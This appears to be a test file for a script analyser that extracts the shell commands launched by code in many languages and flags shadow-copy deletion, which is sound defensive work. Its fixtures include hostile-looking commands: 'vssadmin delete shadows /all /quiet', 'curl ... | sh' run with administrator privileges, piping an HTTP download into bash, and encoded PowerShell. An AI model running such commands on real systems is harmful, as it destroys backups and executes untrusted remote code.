// What a call starts is a command, whatever its language calls that.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { readScript } from '../../../../src/file/formats/script/read.ts'
import { startedCommands } from '../../../../src/file/formats/script/started/started-commands.ts'

const CASES: readonly (readonly [Parameters<typeof startedCommands>[1], string, readonly string[]])[] = [
  [
    'python',
    `import subprocess\nfor u in ['a', 'b']:\n  subprocess.call(['systemctl', 'stop', u])`,
    ['systemctl stop a', 'systemctl stop b'],
  ],
  [
    'python',
    `for c in (['vssadmin', 'list'], ['ver']):\n  subprocess.run(c, creationflags=8)`,
    ['vssadmin list', 'ver'],
  ],
  ['python', `subprocess.run(["bash", "-c", "id | tee x"])`, ['bash -c "id | tee x"']],
  ['python', `# os.system("id -u")`, []],
  [
    'source',
    `for _, s := range []string{"A", "B"} {\n exec.Command("net", "stop", s, "/y").Run()\n}`,
    ['net stop A /y', 'net stop B /y'],
  ],
  ['source', `Command::new("sh").arg("-c").arg("id; ls").spawn()`, ['sh -c "id; ls"']],
  ['source', `Process.Start("cmd.exe", "/c ver && dir");`, ['cmd.exe /c ver && dir']],
  [
    'source',
    `new ProcessStartInfo { FileName = "powershell", Arguments = "-enc AAA", UseShellExecute = false }`,
    ['powershell -enc AAA'],
  ],
  ['perl', `system('sc.exe', 'start', 'A'); my $o = \`id -u\`;`, ['sc.exe start A', 'id -u']],
  ['ruby', `%w[a b].each do |x|\n  system("systemctl", "stop", x)\nend`, ['systemctl stop a', 'systemctl stop b']],
  ['ruby', `sh "bundle exec jekyll build"\nsystem('rsync', '-a', '_site')\nexec cmd if x`, ['rsync -a _site', '$cmd']],
  ['ruby', `File.write(File.expand_path("~/.ssh/config"), "Host vm")`, ['echo "Host vm" >> ~/.ssh/config']],
  ['python', `subprocess.run([sys.executable, "-m", "pip"])`, ['$sys_executable -m pip']],
  ['javascript', `cp.spawn('powershell', ['-enc', x], { stdio: 'ignore' })`, ['powershell -enc $x']],
  ['javascript', `/a(b)/.exec('c d e')`, []],
  ['groovy', `['/bin/sh', '-c', 'id -u'].execute()`, ['/bin/sh -c "id -u"']],
  ['r', `system2("nohup", c(f, "&"), wait = FALSE)`, ['nohup $f "&"']],
  ['julia', 'run(`curl -o $f http://c.example/a`)', ['curl -o $f http://c.example/a']],
  ['elixir', `System.cmd("chmod", ["+x", f])`, ['chmod +x $f']],
  ['nushell', `http get $u | ^bash -s`, ['bash -s']],
  [
    'shell',
    `do shell script "curl -s " & quoted form of u & " | sh" with administrator privileges`,
    ['curl -s $u | sh'],
  ],
  ['autoit', `RunWait(@ComSpec & " /c vssadmin list shadows")`, ['$ComSpec /c vssadmin list shadows']],
]

for (const [language, text, lines] of CASES)
  test(`${language}: ${lines.join(', ') || 'nothing'}`, () => {
    assert.deepEqual(startedCommands(text, language).split('\n').filter(Boolean), lines)
  })

test('a rule about commands is held against what a program in Go starts', () => {
  const reading = readScript(
    'package main\nfunc main() {\n exec.Command("vssadmin", "delete", "shadows", "/all", "/quiet").Run()\n}',
    'source',
  )
  assert.ok(reading.facts.traits.some(({ id, depth }) => id === 'shadow_copies_deleted' && depth === 0))
})

test('what a program only says is no command', () => {
  const reading = readScript('package main\nfunc main() { log.Print("vssadmin delete shadows /all") }', 'source')
  assert.deepEqual(reading.facts.traits, [])
})
